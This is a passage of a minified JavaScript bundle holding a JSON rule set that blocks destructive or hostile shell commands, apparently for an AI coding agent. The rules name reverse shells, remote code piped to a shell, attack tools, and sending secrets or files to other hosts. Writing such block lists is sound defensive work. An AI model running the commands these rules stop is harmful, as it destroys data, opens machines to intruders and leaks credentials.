//127.0.0.1*","*://*@localhost*","localhost*"]}},{"program":["curl","http","https","wget","xh","xhs"],"options":{"-d":["*<delete>*","*\\"delete\\":{\\"query\\"*"]},\
"args":{"any":["*/update*"],"none":["localhost:*","127.0.0.1:*","*@localhost:*","*@127.0.0.1:*","*://localhost*","*://127.0.0.1*","*://*@localhost*","localhost*\
"]}},{"program":["Remove-Az*","Remove-EC2*","Remove-S3*","Remove-AD*","Remove-Mg*","Remove-VM","Remove-Service"]}]},{"code":"destructive_operation_blocked","id"\
:"drop-database","category":"databases","severity":"severe","explanation":"This drops a database or all that is in it. Make one of your own for the test and dro\
p that.","trust":4,"spares":["own-data","own-act"],"match":[{"program":["sql"],"subcommand":["drop-database","drop-schema","flush","drop-owned","drop-keyspace",\
"drop-tablespace","shutdown","purge"],"args":{"none":["test","*_test","test_*","*_test_*","*-test","tmp_*","*_tmp","*_ci","ci_*","scratch*"]}},{"program":["drop\
db"],"args":{"none":["test","*_test","test_*","*_test_*","*-test","tmp_*","*_tmp","*_ci","ci_*","scratch*"]},"flags":{"none":["--help"]}},{"program":["mysqladmi\
n"],"args":{"any":["drop","shutdown","flush-*"]}},{"program":["nc","ncat","netcat","telnet"],"line":{"any":["echo *flush_all*","printf *flush_all*"]}},{"program\
":["redis-cli","valkey-cli"],"subcommand":["del","unlink","DEL","UNLINK"],"args":{"any":["\\ufffc","\\\\*"]}},{"program":["redis-cli","valkey-cli"],"subcommand":["\
config set","CONFIG SET"],"args":{"any":["dir","dbfilename"]}},{"program":["pg_dropcluster","dropuser","cassandra-nodetool"]},{"program":["pg_resetwal"],"flags"\
:{"none":["-n","--dry-run","--help","--version"]}},{"program":["sqlite-utils"],"subcommand":["drop-table","drop-view"]},{"program":["nodetool"],"subcommand":["d\
ecommission","removenode","assassinate"]},{"program":["kafka-topics","kafka-topics.sh","kafka-delete-records*"],"flags":{"any":["--delete","--offset-json-file"]\
}},{"program":["curl","http","https","wget","xh","xhs"],"args":{"any":["*:9200/*","*:9200","*:5984/*","*:8086/*","*:15672/api/*","*:8500/v1/kv*","*elastic*","*o\
pensearch*","*:7700/indexes*","*:6333/collections*","*:8108/collections*","*:8983/solr*","*:8080/v1/schema*","*:19530/*","*:5000/api/v1/db*","*:5000/v2/*"]},"op\
tions":{"-X":["DELETE"]}},{"program":["curl","http","https","wget","xh","xhs"],"args":{"any":["*:9200/*","*:9200","*:5984/*","*:8086/*","*:15672/api/*","*:8500/\
v1/kv*","*elastic*","*opensearch*","*:7700/indexes*","*:6333/collections*","*:8108/collections*","*:8983/solr*","*:8080/v1/schema*","*:19530/*","*:5000/api/v1/d\
b*","*:5000/v2/*"]},"options":{"--request":["DELETE"]}},{"program":["curl","http","https","wget","xh","xhs"],"args":{"any":["*:9200/*","*:9200","*:5984/*","*:80\
86/*","*:15672/api/*","*:8500/v1/kv*","*elastic*","*opensearch*","*:7700/indexes*","*:6333/collections*","*:8108/collections*","*:8983/solr*","*:8080/v1/schema*\
","*:19530/*","*:5000/api/v1/db*","*:5000/v2/*"]},"options":{"--method":["DELETE"]}},{"program":["http","https","xh","xhs"],"subcommand":["DELETE"],"args":{"any\
":["*:9200/*","*:9200","*:5984/*"]}},{"program":["curl","http","https","wget","xh","xhs"],"args":{"any":["*/_delete_by_query*","*/tsdb/delete_series*"]}},{"prog\
ram":["curl","http","https","wget","xh","xhs"],"options":{"--url":["*/_delete_by_query*"]}}]},{"code":"destructive_operation_blocked","id":"destroy-messages","c\
ategory":"databases","severity":"severe","explanation":"This deletes queues, topics or the messages in them. Make one of your own for the test and delete that."\
,"trust":4,"spares":["own-data","own-act"],"match":[{"program":["kafka-acls*"],"flags":{"any":["--remove"]}},{"program":["kafka-consumer-groups*"],"flags":{"any\
":["--delete","--delete-offsets","--execute"]}},{"program":["kafka-configs*"],"flags":{"any":["--delete-config"]}},{"program":["rpk"],"subcommand":["topic trim-\
prefix"]},{"program":["celery"],"subcommand":["purge","amqp queue.purge","amqp queue.delete"]},{"program":["rq"],"subcommand":["empty"]}]},{"code":"destructive_\
operation_blocked","id":"destroy-rows","category":"databases","severity":"severe","explanation":"This destroys or changes a whole table. Write a WHERE, or a mig\
ration that can be undone.","trust":4,"spares":["own-data","own-act"],"match":[{"program":["sql"],"subcommand":["drop-table","drop-collection","drop-column","dr\
op-bucket","drop-stream","drop-measurement","drop-series","drop-partition","truncate","delete-all","update-all"],"args":{"none":["test","*_test","test_*","*_tes\
t_*","*-test","tmp_*","*_tmp","*_ci","ci_*","scratch*"]}},{"program":["sql"],"subcommand":["delete-production","update-production"],"level":"strict"}]},{"code":\
"destructive_operation_blocked","id":"database-rights","category":"databases","severity":"severe","explanation":"This gives or takes rights in a database, or ch\
anges how it runs. Ask the person who runs it.","trust":4,"match":[{"program":["sql"],"subcommand":["grant","revoke","create-user","create-role","alter-user","d\
rop-user","drop-role","set-global","kill"]}]},{"code":"destructive_operation_blocked","id":"reset-application-data","category":"databases","severity":"severe","\
explanation":"This throws away what the application has stored. Use a database made for the test.","trust":3,"spares":["own-data"],"match":[{"program":["rails",\
"rake","bin/rails","hanami"],"args":{"any":["db:drop*","db:reset*","db:purge*","db:schema:load","db:migrate:reset","db:truncate_all","db:setup:force"]},"flags":\
{"none":["-T","--tasks","-n","--dry-run"]},"environment":{"RAILS_ENV":["prod*","staging","dev*"]}},{"program":["rails","rake","hanami"],"args":{"any":["db:drop*\
","db:reset*","db:purge*","db:migrate:reset","db:truncate_all"],"none":["*RAILS_ENV=test*"]},"flags":{"none":["-T","--tasks","-n","--dry-run"]},"environment":{"\
*":["prod*","production","staging"]}},{"program":["rails","rake"],"args":{"any":["db:drop:all","db:drop","db:purge","db:truncate_all","db:reset","db:migrate:res\
et","DISABLE_DATABASE_ENVIRONMENT_CHECK=1"],"none":["RAILS_ENV=test"]},"flags":{"none":["-T","--tasks","-n","--dry-run"]}},{"program":["manage.py","django-admin\
"],"subcommand":["flush","reset_db"]},{"program":["python"],"subcommand":["manage.py flush","manage.py reset_db","./manage.py flush","*/manage.py flush","manage\
.py migrate * zero","*/manage.py reset_db"],"flags":{"none":["--help","-h","--plan","--check"]}},{"program":["prisma"],"subcommand":["db push"],"flags":{"any":[\
"--force-reset","--accept-data-loss"]}},{"program":["php","artisan","sail"],"args":{"any":["migrate:fresh","migrate:reset","db:wipe","migrate:refresh","doctrine\
:database:drop","doctrine:schema:drop","d:d:d"]},"flags":{"none":["--dump-sql","--pretend"]}},{"program":["php"],"args":{"any":["doctrine:schema:drop"]},"flags"\
:{"all":["--dump-sql","--force"]}},{"program":["sequelize","sequelize-cli","typeorm","mikro-orm","knex","dbmate","mix","sqlx","diesel","goose","migrate","ecto",\
"refinery","flyway","liquibase","atlas"],"subcommand":["db:drop*","schema:drop","db:migrate:undo:all","database:drop","drop","ecto.drop","ecto.reset","database \
drop","database reset","clean","drop-all","reset","dropAll","schema clean","down-to 0","db:reset"]},{"program":["drizzle-kit"],"subcommand":["push*"],"flags":{"\
any":["--force"]}},{"program":["php"],"subcommand":["*wp-cli.phar db reset","*wp-cli.phar db drop","*wp-cli.phar site empty"]},{"program":["drush","drush.phar"]\
,"subcommand":["@* sql-drop","@* sql:drop"]},{"program":["console","symfony"],"args":{"any":["doctrine:database:drop","doctrine:schema:drop","d:d:d"]},"flags":{\
"any":["--force","-f"]}},{"program":["convex"],"subcommand":["import"],"flags":{"any":["--replace","--replace-all"]}},{"program":["supabase"],"subcommand":["mig\
ration down"]},{"program":["magento","bin/magento"],"subcommand":["setup:uninstall","setup:db-schema:drop"]},{"program":["hasura"],"subcommand":["metadata clear\
","migrate delete","database drop"]},{"program":["directus"],"subcommand":["database drop"]},{"program":["strapi"],"subcommand":["import","transfer"],"flags":{"\
any":["--force"]}},{"program":["medusa"],"subcommand":["db:drop","db:reset"]},{"program":["payload"],"subcommand":["migrate:fresh","migrate:reset","migrate:refr\
esh"]},{"program":["adonis","ace"],"subcommand":["db:wipe","migration:fresh","migration:reset","migration:refresh"]},{"program":["node"],"args":{"any":["db:wipe\
","migration:fresh","migration:reset","migration:refresh"]}},{"program":["bench"],"subcommand":["reinstall","drop-site"]},{"program":["bench"],"args":{"any":["r\
einstall","drop-site"]},"flags":{"any":["--site"]}},{"program":["knex"],"subcommand":["migrate:rollback"],"flags":{"any":["--all"]}},{"program":["alembic"],"sub\
command":["downgrade base"]},{"program":["flask"],"subcommand":["db downgrade base"]},{"program":["pg_restore"],"flags":{"any":["-c","--clean"],"none":["-f","--\
file","-l","--list"]}},{"program":["mongorestore"],"flags":{"any":["--drop"]}},{"program":["dotnet"],"subcommand":["ef database drop"]}]},{"code":"destructive_o\
peration_blocked","id":"publish-package","category":"publishing","severity":"severe","explanation":"What is published cannot be taken back. Build the package; a\
 person publishes it.","trust":3,"match":[{"program":["npm","pnpm","bun","jsr","deno","npmpub","np","rush"],"subcommand":["publish","pub","stage publish"]},{"pr\
ogram":["yarn"],"subcommand":["publish","npm publish","workspaces foreach npm publish"]},{"program":["np","semantic-release","release-it","standard-version-publ\
ish"],"flags":{"none":["--help","--version","--preview"]}},{"program":["lerna","changeset","auto","nx","beachball"],"subcommand":["publish","shipit","release pu\
blish","release"]},{"program":["cargo"],"subcommand":["publish","yank","owner","release"],"flags":{"none":["--list","-l","--help"]}},{"program":["twine"],"subco\
mmand":["upload"],"args":{"none":["testpypi"]}},{"program":["poetry","flit","hatch","pdm","uv","maturin"],"subcommand":["publish","upload"]},{"program":["python\
"],"args":{"any":["upload"]},"subcommand":["setup.py"]},{"program":["gem"],"subcommand":["push","yank","owner"]},{"program":["rake","bundle"],"args":{"any":["re\
lease","release:rubygem_push"]}},{"program":["mvn","mvnw"],"args":{"any":["deploy","release:perform","deploy:deploy*","nexus-staging:release"]},"line":{"none":[\
"mvn *altDeploymentRepository=*::file:*"]}},{"program":["gradle","gradlew"],"args":{"any":["publish","*:publish","publishAllPublications*","publishPlugins","upl\
oadArchives","publishTo*Repository","closeAndRelease*","publishAndRelease*"],"none":["publishToMavenLocal"]}},{"program":["sbt"],"args":{"any":["publish","publi\
shSigned","sonatype*"]}},{"program":["dotnet","nuget"],"subcommand":["nuget push","push","nuget delete","delete"]},{"program":["pod"],"subcommand":["trunk push"\
,"repo push","trunk delete"]},{"program":["vsce","ovsx"],"subcommand":["publish","unpublish"]},{"program":["goreleaser"],"subcommand":["release"],"flags":{"none\
":["--snapshot","--skip-publish","--skip"]}},{"program":["mix"],"subcommand":["hex.publish"]},{"program":["dart","flutter"],"subcommand":["pub publish"]},{"prog\
ram":["anaconda","conda"],"subcommand":["upload"]},{"program":["clojure","lein","cabal","stack","opam","luarocks","cpan-upload","elm","conan"],"subcommand":["de\
ploy","upload","publish"]},{"program":["snapcraft","charmcraft"],"subcommand":["upload","push","release"]},{"program":["wasm-pack"],"subcommand":["publish"]},{"\
program":["gh","glab"],"subcommand":["release create","release upload","release edit"],"flags":{"none":["--draft","-d"]}}]},{"code":"destructive_operation_block\
ed","id":"unpublish-package","category":"publishing","severity":"severe","explanation":"This takes away or redirects what others install. Ask the person who own\
s the package.","trust":4,"match":[{"program":["npm","pnpm","yarn"],"subcommand":["unpublish","deprecate","owner add","owner rm","access public","access restric\
ted","access grant","access revoke","access set","access edit","access 2fa-*","dist-tag rm","dist-tag add * latest","team create","team destroy","team add","tea\
m rm","npm tag add","hook add","hook rm","hook update","org set","org rm"]}]},{"code":"destructive_operation_blocked","id":"push-image","category":"publishing",\
"severity":"severe","explanation":"This publishes an image. Build it; a person or the pipeline pushes it.","trust":3,"match":[{"program":["docker","podman","ner\
dctl","buildah","img"],"subcommand":["push","image push","manifest push","compose push"],"args":{"none":["localhost*","127.0.0.1*","*.local*","registry:5000*"]}\
},{"program":["docker"],"subcommand":["buildx build","build","buildx bake"],"flags":{"any":["--push"]}},{"program":["docker-compose"],"subcommand":["push"]},{"p\
rogram":["helm","oras","crane","regctl","ko","cosign"],"subcommand":["push","cm-push","copy"]},{"program":["skopeo"],"subcommand":["copy * docker://*","sync * d\
ocker://*"]}]},{"code":"destructive_operation_blocked","id":"remote-code","category":"remote-code","severity":"severe","explanation":"This runs code from elsewh\
ere that nobody has looked at. Download it, read it, then install it by the package manager if you can.","trust":4,"match":[{"program":["pip","uv","npm","pnpm",\
"yarn"],"subcommand":["install","i","add","ci","download","pip install"],"to":"drop"},{"program":["sh","bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh\
",".","source","eval"],"from":{"program":["curl","wget","fetch","http","https","xh","aria2c","lynx","nc","ncat","netcat","axel","ftp","tftp","lwp-request","GET"\
,"scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"args":{"at_most":0},"flags":{"none":["-c"]}},{"program":["sh","bash","zsh\
","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","eval"],"from":{"program":["curl","wget","fetch","http","https","xh","aria2c","lynx","nc","ncat","n\
etcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"flags":{"any":["-s"]}},{"pr\
ogram":["sh","bash","zsh","dash"],"args":{"at_most":0},"flags":{"none":["-c","-l"]},"via":["python*","node","deno","bun","perl","ruby","php","lua*","go","rustc"\
,"java","dotnet*","elixir","Rscript","julia","groovy"],"line":{"any":["curl http*"],"none":["curl http://localhost*","curl http://127.*"]}},{"program":["sh","ba\
sh","zsh","dash"],"flags":{"any":["-s"]},"via":["python*","node","deno","bun","perl","ruby","php","lua*","go","rustc","java","dotnet*","elixir","Rscript","julia\
","groovy"],"line":{"any":["curl http*"],"none":["curl http://localhost*","curl http://127.*"]}},{"program":["sh","bash","zsh","dash","ksh","ash","fish","mksh",\
"csh","tcsh",".","source","eval","python","perl","ruby","node","php","deno","bun","lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"from\
":{"program":["curl","wget","fetch","http","https","xh","aria2c","lynx","nc","ncat","netcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","\
iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"args":{"any":["-","/dev/*","/proc/*"]}},{"program":["python","perl","ruby","node","php","deno","bun",\
"lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"from":{"program":["curl","wget","fetch","http","https","xh","aria2c","lynx","nc","ncat\
","netcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"args":{"at_most":0},"fl\
ags":{"none":["-c","-m","-e","-p","-n","-r","--eval","--print"]}},{"program":["sh","bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","eval\
","python","perl","ruby","node","php","deno","bun","lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"from":{"program":["base64","base32"\
,"basenc","xxd","openssl","uudecode","gunzip","zcat","gzip","rev","tr","gpg"]},"args":{"at_most":0},"flags":{"none":["-c","-m","-e","-p","-n","-r","--eval","--p\
rint"]}},{"program":["pip","npm","npx","gem","pnpm","yarn","uv","pipx","cargo","go"],"to":"drop"},{"program":["pip","npm","npx","gem","pnpm","yarn","uv","pipx"]\
,"args":{"any":["http://*"]}},{"program":["sudo","env","xargs","tee"],"from":{"program":["curl","wget","fetch","http","https","xh","aria2c","lynx","nc","ncat","\
netcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"args":{"any":["sh","bash"]\
}},{"downloaded":true},{"program":["awk","gawk","mawk","sed","gsed","jq","bc","gnuplot"],"from":{"program":["curl","wget","fetch","http","https","xh","aria2c","\
lynx","nc","ncat","netcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"options\
":{"-f":["-","/dev/stdin","/dev/fd/0"]}},{"program":["sed","gsed"],"from":{"program":["curl","wget","fetch","http","https","xh","aria2c","lynx","nc","ncat","net\
cat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"options":{"--file":["-","/dev\
/stdin"]}},{"program":["pip"],"options":{"--index-url":["http://*"]}},{"program":["pip"],"options":{"--extra-index-url":["http://*"]}},{"program":["pip"],"optio\
ns":{"-i":["http://*"]}},{"program":["deno","bun"],"subcommand":["run"],"args":{"any":["http://*","https://*"]}},{"program":["mshta","rundll32","regsvr32","cert\
util","bitsadmin"],"args":{"any":["*http://*","*https://*"]}},{"program":["ansible-pull"]},{"program":["npm","pnpm"],"subcommand":["pkg set scripts.*=*curl *","\
pkg set scripts.*=*wget *"]},{"program":["crontab","at","batch","psql","mysql","awk","make"],"from":{"program":["curl","wget","fetch","http","https","xh","aria2\
c","lynx","nc","ncat","netcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]}}]},{\
"code":"destructive_operation_blocked","id":"run-made-code","category":"remote-code","severity":"severe","explanation":"Nobody can say before it runs which comm\
ands this program prints for the shell. Print them to a file, read it, then run it.","trust":3,"match":[{"program":["sh","bash","zsh","dash","ksh","ash","fish"]\
,"from":{"program":["perl","python","ruby","node","php","deno","bun","lua","awk","gawk","mawk","tclsh"]},"args":{"at_most":0},"flags":{"none":["-c"]}}]},{"code"\
:"destructive_operation_blocked","id":"reverse-shell","category":"exfiltration","severity":"catastrophic","explanation":"This gives somebody elsewhere a shell o\
n this machine.","match":[{"writes":["connection","local-connection"],"program":["sh","bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","e\
val","python","perl","ruby","node","php","deno","bun","lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"args":{"at_most":0}},{"reads":["\
connection","local-connection"],"program":["sh","bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","eval","python","perl","ruby","node","ph\
p","deno","bun","lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"args":{"at_most":0}},{"writes":["connection"],"program":["exec","nc"],\
"line":{"any":["sh","sh *","bash","bash *","zsh","dash","\\ufffc*"]}},{"program":["nc","ncat","netcat","nc.traditional","nc.openbsd"],"flags":{"any":["-e","--exe\
c","--sh-exec","--lua-exec"]}},{"program":["nc","ncat","netcat","nc.traditional"],"options":{"-c":["*sh","*sh *","*.exe","\\ufffc*"]}},{"program":["socat"],"args\
":{"any":["*exec:*","*EXEC:*","*system:*","*SYSTEM:*"],"none":["-","stdio*","STDIO*","pty*","PTY*","unix*","UNIX*","file:*","FILE:*","stdin*","STDIN*","exec:./*\
","EXEC:./*"]}},{"program":["sh","bash","zsh","dash"],"from":{"program":["nc","ncat","netcat","socat","telnet","mkfifo","recv"]}},{"program":["python","perl","r\
uby","node","php","deno","bun","lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"from":{"program":["recv"]}},{"program":["sh","bash","zs\
h","dash"],"from":{"program":["openssl"]},"line":{"any":["openssl s_client*"]}},{"program":["nc","ncat","netcat","telnet","socat"],"from":{"program":["sh","bash\
","zsh","dash"],"operands_at_most":0}},{"program":["openssl"],"from":{"program":["sh","bash","zsh","dash"],"operands_at_most":0},"line":{"any":["openssl s_clien\
t*"]}},{"program":["sh","bash","zsh","dash"],"flags":{"any":["-i"]},"args":{"at_most":0},"line":{"any":["nc *"]},"via":["php","perl","ruby","python","node"]},{"\
program":["xterm"],"flags":{"any":["-display"]},"args":{"none":[":*"]}}]},{"code":"destructive_operation_blocked","id":"attack-tool","category":"exfiltration","\
severity":"severe","explanation":"This is a tool for breaking into machines, or for listening to them. Say what it is needed for.","trust":4,"match":[{"program"\
:["msfvenom"],"flags":{"none":["-l","--list","--list-options","-h","--help","-v","--version"]}},{"program":["chisel"],"subcommand":["server","client"]},{"progra\
m":["msfconsole","meterpreter","pwncat","pwncat-cs","gs-netcat","evil-winrm","ettercap","bettercap","responder","Responder.py","arpspoof","logkeys","crackmapexe\
c","netexec","impacket-secretsdump","secretsdump.py","linpeas.sh"],"flags":{"none":["--help","-h","--version"]}},{"program":["showkey"],"flags":{"any":["-k","-s\
","-a","--keycodes","--scancodes","--ascii"]}},{"program":["xinput"],"subcommand":["test","test-xi2"]},{"program":["tcpdump","tshark","dumpcap"],"flags":{"any":\
["-w","-A","-X","-Y"],"none":["-r","--version","-h","--help","-D"]}},{"program":["ngrep"],"flags":{"none":["-h","-V","-I"]}}]},{"code":"credential_file_protecte\
d","id":"send-secrets","category":"exfiltration","severity":"severe","explanation":"This sends secrets, or what may hold them, to another host. Nothing of the k\
ind leaves this machine.","match":[{"program":["curl","wget","http","https","xh","nc","ncat","netcat","socat","telnet","openssl","mail","mailx","sendmail","mutt\
","ssh","ftp","tftp","sftp","lftp","websocat"],"from":{"program":["*"],"reads":["credentials","accounts","logs"]}},{"program":["curl","wget","http","https","xh"\
,"nc","ncat","netcat","socat","telnet","openssl","mail","mailx","sendmail","mutt","ssh","ftp","tftp","sftp","lftp","websocat"],"from":{"program":["env","printen\
v","set","export","declare","history"]},"to":"remote"},{"program":["curl","wget","http","https","xh","nc","ncat","netcat","socat","telnet","openssl","mail","mai\
lx","sendmail","mutt","ssh","ftp","tftp","sftp","lftp","websocat"],"unknown":true,"line":{"any":["env","env -0","printenv","printenv -0","set","export","export \
-p","declare -p","declare -x","declare -xp","declare -px","typeset -p","typeset -x","compgen -v","compgen -e"]},"to":"remote"},{"program":["nc","ncat","netcat",\
"telnet","socat","mail","mailx","sendmail"],"from":{"program":["env","printenv","set","history","export"]}},{"program":["curl","wget","scp","rsync","http","nc",\
"ncat","netcat","socat","telnet","openssl","mail","mailx","sendmail","mutt","ssh","ftp","tftp","sftp","lftp","websocat"],"reads":["credentials","accounts","syst\
em","home","root","kernel","logs"],"to":"remote"},{"program":["scp","rsync","sftp"],"reads":["credentials","accounts","system","home","root","personal","logs"],\
"args":{"any":["*:*"]}}]},{"code":"destructive_operation_blocked","id":"send-data","category":"exfiltration","severity":"severe","explanation":"This sends files\
 or the output of commands to another host. Leave what you have made in the workspace.","trust":3,"match":[{"program":["curl","wget","http","https","xh","httpie\
"],"flags":{"any":["-T","--upload-file","-F","--form","-d","--data","--data-binary","--data-urlencode","--data-raw","--json","--post-file","--body-file","--post\
-data","--data-ascii"]},"to":"drop"},{"program":["gh"],"subcommand":["gist create","gist new"],"flags":{"any":["--public","-p"]},"args":{"at_least":1}},{"progra\
m":["nc","ncat","netcat","socat","telnet","scp","rsync","sftp","ftp","tftp","websocat"],"from":{"program":["*"],"without":["recv"]},"to":"remote"},{"program":["\
nc","ncat","netcat"],"reads":["source","outside","data","workspace","temp","disposable"],"to":"remote"},{"program":["nc","ncat","netcat","telnet","ssh","curl","\
wget"],"from":{"program":["tar","zip","git","gzip","xz","pg_dump","pg_dumpall","mysqldump","mongodump","7z","cpio","sqlite3","find","bzip2","zstd","base64","ope\
nssl","gpg","xxd"]},"to":"remote"},{"program":["mail","mailx","s-nail","mutt","neomutt","sendmail","swaks","msmtp"],"from":{"program":["tar","zip","pg_dump","my\
sqldump","mongodump","gpg","base64","xxd"]}},{"program":["mail","mailx","s-nail","mutt","neomutt","sendmail","swaks","msmtp"],"reads":["credentials","data","hom\
e","personal","system","accounts","vcs","logs"]},{"program":["mail","mailx","s-nail","mutt","neomutt","sendmail","swaks","msmtp"],"options":{"-a":["*.sql*","*.t\
ar*","*.tgz","*.zip","*.db","*.env","*.pem","*.key","*id_*"]}},{"program":["croc","wormhole","magic-wormhole","ffsend","sendme"],"reads":["credentials","data","\
home","personal","system","accounts","vcs","logs","workspace"]},{"program":["curl","wget","http"],"flags":{"any":["-T","--upload-file","-F","--form","-d","--dat\
a","--data-binary","--data-urlencode","--data-raw","--json","--post-file","--body-file","--post-data","--data-ascii"]},"reads":["data","credentials","home","per\
sonal","vcs"],"to":"remote"},{"program":["curl","wget"],"flags":{"any":["-T","--upload-file","--post-file"]},"to":"remote"},{"program":["curl","http","xh"],"fla\
gs":{"any":["-F","--form"]},"reads":["source","workspace","outside","temp","disposable"],"to":"remote"},{"program":["curl"],"args":{"any":["@*\\\\*\\\\*/*","@*/\\\\*.\
*"]},"to":"remote"},{"program":["curl","http","xh"],"reads":["source","workspace","outside","temp","vcs"],"flags":{"any":["--data-binary","--data-urlencode"]},"\
to":"remote"},{"program":["rsync","scp"],"reads":["workspace","source","vcs","personal","home","data","outside"],"args":{"any":["*:*"],"none":["localhost:*","12\
7.0.0.1:*","*@localhost:*","*@127.0.0.1:*","*://localhost*","*://127.0.0.1*","*://*@localhost*"]}},{"program":["ssh"],"from":{"program":["*"],"reads":["workspac\
e","source","vcs","personal","home","data","outside"]},"line":{"none":["bash -s","sh -s","bash -s --","sh -s --","python3 -","python -"]},"to":"remote"},{"progr\
am":["ssh"],"reads":["workspace","source","vcs","personal","home","data","outside"],"line":{"none":["bash -s","sh -s","bash -s --","sh -s --","python3 -","pytho\
n -"]},"to":"remote"},{"program":["git"],"subcommand":["push","send-pack"],"args":{"any":["*://*","*@*:*","*.*:*.git"],"none":["localhost:*","127.0.0.1:*","*@lo\
calhost:*","*@127.0.0.1:*","*://localhost*","*://127.0.0.1*","*://*@localhost*","file://*"]}},{"program":["git"],"subcommand":["push"],"line":{"any":["git remot\
e add * *://*","git remote add * *@*:*","git remote set-url * *://*","git remote set-url * *@*:*"]}},{"program":["socat"],"from":{"program":["*"]},"args":{"any"\
:["TCP*:*.*","tcp*:*.*","OPENSSL:*.*","UDP*:*.*","udp*:*.*"],"none":["*127.0.0.1*"]}},{"program":["openssl"],"from":{"program":["*"],"reads":["source","outside"\
,"data","workspace","personal","home","logs"]},"options":{"-connect":["*.*"]}},{"program":["http.server"],"reads":["root","home","system","credentials"]},{"prog\
ram":["httpd"],"options":{"-h":["/","~","/home*","/etc*","/root*"]}},{"program":["ab"],"reads":["credentials","home","personal","accounts","system"]},{"program"\
:["php"],"flags":{"any":["-S"]},"options":{"-t":["/","~","~/","/home*","/etc*","/root*"]}},{"program":["socat"],"args":{"any":["FILE:*","OPEN:*","file:*","open:\
*"]}},{"program":["aws"],"subcommand":["s3 cp","s3 sync","s3 mv"],"reads":["credentials","workspace","data","home","system","accounts","vcs"],"args":{"any":["s3\
://*"]}},{"program":["gsutil","gcloud","rclone","azcopy","mc","az","b2","s3cmd","s5cmd","megaput","gdrive","storj","uplink"],"reads":["credentials","home","syst\
em","accounts","data","workspace","personal","vcs","logs"]},{"program":["transfer","transfer.sh","pastebinit","gist","wetransfer"],"flags":{"none":["--help","-h\
","--version"]}},{"program":["gh"],"subcommand":["gist create"],"reads":["credentials","home","personal","startup","system","accounts","logs"]},{"program":["wri\
tes","cat","echo","printf","tar","dd","base64","exec",":","sh","bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","eval","python","perl","r\
uby","node","php","deno","bun","lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"writes":["connection"]}]},{"code":"destructive_operatio\
n_blocked","id":"smuggle-data","category":"exfiltration","severity":"severe","explanation":"This puts what a command finds into an address that another host see\
s.","trust":4,"match":[{"program":["dig","nslookup","host","drill","kdig","doggo","ping","getent"],"args":{"any":["*\\ufffc*.*","*\\ufffc.*"]}},{"program":["ping"\
],"options":{"-p":["*\\ufffc*"]}},{"program":["dig","nslookup","host","drill","kdig","doggo"],"args":{"any":["*.*.*"]},"line":{"any":["base64*","base32*","xxd*",\
"od *","hexdump*","whoami","hostname","id"]}},{"program":["curl","wget","http","https","xh"],"to":"drop","args":{"any":["*\\ufffc*"]}},{"program":["curl","wget",\
"xh"],"args":{"any":["*\\ufffc*"]},"line":{"any":["base64*","base32*","xxd*","whoami"]},"to":"remote"},{"program":["ssh"],"flags":{"any":["-R","-D","-w"]}},{"pro\
gram":["ssh"],"options":{"-L":["0.0.0.0:*","\\\\*:*"]}},{"program":["ngrok","cloudflared","localtunnel","lt","bore","frpc","serveo","tailscale","zrok","iodine","d\
nscat","dnscat2"],"flags":{"none":["--help","--version"]},"args":{"none":["version","help","status","completion","list","info","verify","ip","netcheck","ping","\
whois","config"]}},{"program":["code","code-insiders","cursor"],"subcommand":["tunnel"]},{"program":["ttyd"],"flags":{"any":["-W","--writable"]}},{"program":["g\
otty"],"flags":{"any":["-w","--permit-write"]}},{"program":["wetty","shellinaboxd","sshx","tmate"],"flags":{"none":["-h","--help","-V","--version"]}}]},{"code":\
"destructive_operation_blocked","id":"delete-over-http","category":"exfiltration","severity":"risky","explanation":"This deletes something of another service. A\
sk the person who owns it.","trust":3,"match":[{"program":["curl","wget"],"options":{"-X":["DELETE","delete"]},"to":"remote"},{"program":["curl","wget"],"option\
s":{"--request":["DELETE","delete"]},"to":"remote"},{"program":["curl","wget"],"options":{"--method":["DELETE","delete"]},"to":"remote"},{"program":["http","htt\
ps","xh","xhs"],"subcommand":["DELETE","delete"],"to":"remote"},{"program":["curl","wget","http","https","xh","xhs"],"options":{"-X":["POST","PUT","PATCH"]},"ar\
gs":{"any":["http*/bulk*delete*","http*/batch*delete*","http*/delete","http*/delete/","http*/delete_*","http*/deleteAll*","http*/_delete_by_query*","http*/purge\
","http*/purge_*","http*/truncate","http*/destroy","http*/flush_all","http*:purge","http*:bulkDelete","http*.delete"]},"to":"remote"}]}]');function ds(t,e){if(t.length<=e)return t;let s=t.slice(e).every(({text:r})=>/^\d{1,9}$/.test(r));return[...t.slice(0,e),R(s?"\uFFFC":"\uFFFC\uFFFB")]}var Hr=({text:t,
